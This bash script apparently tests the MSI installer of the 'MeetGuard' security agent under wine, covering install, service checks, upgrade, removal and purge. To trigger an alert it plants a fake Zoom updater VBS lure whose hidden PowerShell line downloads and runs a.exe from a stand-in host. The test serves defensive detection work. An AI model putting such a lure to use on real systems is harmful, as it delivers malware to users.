#!/bin/bash
# 20-msi.sh: the MSI under wine: silent installation with both properties, the
# service runs, a dropped lure is an alert, an upgrade keeps state and
# configuration, removing leaves them, purging does not. What is typed and seen
# is kept in build/test-packages/msi.txt.
#
# DIST is the folder that `make packages` filled, dist if it is not set. What wine cannot
# show: the rights on folders are not Windows' own there, failure actions are
# taken and not carried out, no source of launches but the list of processes
# works, and of the box hardly any layer is held.
set -euo pipefail
cd "$(dirname "$0")/../.."
wine=/usr/lib/wine/wine64
[ -x "$wine" ] || { echo "20-msi.sh: needs wine64 (apt-get install wine64)" >&2; exit 1; }
dist=$(realpath "${DIST:-dist}")
msi=$(ls "$dist"/packages/*.msi) newer=$(ls "${NEXT:?scripts/test-packages.sh sets it}"/*.msi)
work=$PWD/build/test-packages log=$PWD/build/test-packages/msi.txt
for setting in "${!MEETGUARD_@}"; do unset "$setting"; done # the agent refuses settings it does not know
export WINEPREFIX=$work/wine WINEDEBUG=-all
programs=$WINEPREFIX/drive_c/Program\ Files/MeetGuard data=$WINEPREFIX/drive_c/ProgramData/MeetGuard
token=mgenroll_abcdefghijklmnopqrstuvwxyz234567_abcdefghijklmnopqrstuvwxyz234567 # of no collector
mkdir -p "$work"
: >"$log"

seconds() { echo $((SECONDS - $1)); }
say() { printf '\n%s\n' "== $*" | tee -a "$log"; }
fail() { echo "20-msi.sh: FAILED: $*" >&2; exit 1; }
typed() { # typed COMMAND… in Windows; keeps what it printed
  echo "> $*" | tee -a "$log"
  timeout 300 "$wine" "$@" 2>/dev/null | tr -d '\r' | tee -a "$log" || fail "$1 $2 ended with ${PIPESTATUS[0]}"
}
shown() { # the same, and its exit code may tell of something found
  (typed "$@") 2>/dev/null || true
}
until_ok() { # until_ok SECONDS WHAT COMMAND…
  local most=$(($1 * ${SLACK:-1})) what=$2 # SLACK=4 for a busy machine
  shift 2
  local began=$SECONDS
  while [ "$(seconds "$began")" -le "$most" ]; do
    if "$@"; then echo "→ $what after $(seconds "$began") s (bar: $most s)" | tee -a "$log"; return; fi
    sleep 0.2
  done
  fail "$what: not within $most s"
}
running() { "$wine" sc query meetguard 2>/dev/null | grep -q 'STATE.*4'; }
told() { grep -qsF "$1" "$data/alerts.jsonl"; }
proved() { "$wine" 'C:\Program Files\MeetGuard\meetguard.exe' status 2>/dev/null | grep -q '^canary *ok *a file and a launch came back'; }
stopped() { "$wine" sc query meetguard 2>/dev/null | grep -q 'STATE.*: 1'; }
ended() { ! pgrep -f 'MeetGuard.meetguard.exe' >/dev/null; }
gone() { [ ! -e "$programs/meetguard.exe" ]; }

finish() { "${wine%/*}/wineserver64" -k 2>/dev/null || true; }
trap finish EXIT
finish # what an interrupted test has left

rm -rf "$WINEPREFIX"
"$wine" wineboot -i >/dev/null 2>&1
# The service manager of the first start ends with it: a service that is made before
# then is gone with the next one.
timeout 60 "${wine%/*}/wineserver64" -w || true
# wine makes the folders of a user links to those of the account outside
for folder in Downloads Desktop; do
  rm "$WINEPREFIX/drive_c/users/$(id -un)/$folder"
  mkdir "$WINEPREFIX/drive_c/users/$(id -un)/$folder"
done
downloads=$WINEPREFIX/drive_c/users/$(id -un)/Downloads
# Go asks a library of Windows 10 for random numbers that wine 8 does not have.
# This one stands in for it, in this test alone.
cat >"$work/bcp.c" <<'C'
#include <windows.h>
BOOLEAN NTAPI SystemFunction036(PVOID, ULONG);
__declspec(dllexport) BOOL WINAPI ProcessPrng(PBYTE data, SIZE_T size) { return SystemFunction036(data, (ULONG)size); }
C
x86_64-w64-mingw32-gcc -shared -O2 -o "$WINEPREFIX/drive_c/windows/system32/bcryptprimitives.dll" "$work/bcp.c" -ladvapi32

say "install"
typed msiexec /i "Z:${msi//\//\\}" /qn COLLECTOR=https://collector.invalid:8443 TOKEN=$token /l*v 'C:\install.log'
until_ok 60 "the service is RUNNING" running
typed sc query meetguard
typed 'C:\Program Files\MeetGuard\meetguard.exe' version
tr -d '\r' <"$data/config.yaml" | tee -a "$log"
grep -q 'collector: https://collector.invalid:8443' "$data/config.yaml" || fail "COLLECTOR did not arrive"
grep -qx "$token" "$data/enroll.token" || fail "TOKEN did not arrive"
if iconv -f utf-16le -t utf-8 -c "$WINEPREFIX/drive_c/install.log" 2>/dev/null | grep -q $token || grep -qa $token "$WINEPREFIX/drive_c/install.log" 2>/dev/null; then
  # wine logs nothing of what Windows hides: told, not failed
  echo "the token stands in wine's log of the installer" | tee -a "$log"
fi
for pid in $(pgrep -f 'MeetGuard.meetguard.exe'); do
  if tr '\0' ' ' <"/proc/$pid/cmdline" | grep -q $token; then fail "the token is in a command line that stays"; fi
done

say "a lure"
printf 'Set s = CreateObject("WScript.Shell")\r\n%s s.Run "powershell -w hidden -c iwr https://zoom-sdk-update.invalid/a -outfile a.exe; .\\a.exe", 0\r\n' "' Zoom SDK Update
" >"$downloads/ZoomInstallerFull.vbs.part"
mv "$downloads/ZoomInstallerFull.vbs.part" "$downloads/ZoomInstallerFull.vbs"
until_ok 60 "the lure is an alert" told ZoomInstallerFull.vbs
typed 'C:\Program Files\MeetGuard\meetguard.exe' alerts list

until_ok 90 "the canary came back" proved
if grep -q 'MeetGuard\\\\meetguard.exe"' "$data/alerts.jsonl"; then fail "it takes its own program for a lure"; fi
shown 'C:\Program Files\MeetGuard\meetguard.exe' status
shown 'C:\Program Files\MeetGuard\meetguard.exe' box-probe

say "stop and start"
typed sc stop meetguard
until_ok 60 "the service is STOPPED" stopped
until_ok 15 "its processes have ended" ended
shown sc start meetguard # wine waits ten seconds for a process to answer, which a busy machine may not keep
until_ok 60 "the service is RUNNING" running

say "upgrade keeps state and configuration"
echo '# of the administrator' >>"$data/config.yaml"
had=$(wc -l <"$data/alerts.jsonl")
typed msiexec /i "Z:${newer//\//\\}" /qn
until_ok 60 "the service is RUNNING" running
grep -q 'of the administrator' "$data/config.yaml" || fail "the configuration was replaced"
[ "$(wc -l <"$data/alerts.jsonl")" -ge "$had" ] || fail "alerts were lost"

say "remove"
typed msiexec /x "Z:${newer//\//\\}" /qn
until_ok 60 "the program is gone" gone
if "$wine" sc query meetguard 2>/dev/null | grep -q 'STATE'; then fail "the service is still there"; fi
until_ok 15 "no process of it is left" ended
for kept in alerts.jsonl config.yaml; do [ -s "$data/$kept" ] || fail "removing took $kept"; done

say "install and purge"
typed msiexec /i "Z:${msi//\//\\}" /qn
until_ok 60 "the service is RUNNING" running
typed msiexec /x "Z:${msi//\//\\}" /qn PURGE=1
until_ok 60 "the program is gone" gone
[ ! -e "$data" ] || fail "purging left $data"
echo "nothing is left" | tee -a "$log"

say "the box: each birth of a worker, and that its level claims nothing that a probe gets through"
CGO_ENABLED=0 GOOS=windows GOARCH=amd64 go test -c -o "$work/box.test.exe" ./internal/box
typed "$work/box.test.exe"
echo "20-msi.sh: passed; transcript in $log"
